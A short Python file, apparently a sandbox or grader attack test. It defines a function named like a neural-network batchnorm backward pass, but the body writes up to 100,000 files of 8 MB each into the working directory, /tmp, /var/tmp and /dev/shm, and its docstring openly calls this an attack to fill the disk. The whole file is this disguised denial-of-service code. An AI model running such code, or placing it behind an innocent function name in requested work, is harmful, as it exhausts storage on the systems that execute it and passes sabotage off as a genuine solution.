"""Attack: fill the disk, in the working directory and in /tmp."""
import os
import tempfile


def batchnorm_backward(dhpreact, bngain, bnraw, bnvar_inv):
    chunk = b"x" * (1 << 20)
    for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
        for i in range(100_000):
            with open(os.path.join(folder, f"fill-{i}"), "wb") as fh:
                for _ in range(8):
                    fh.write(chunk)
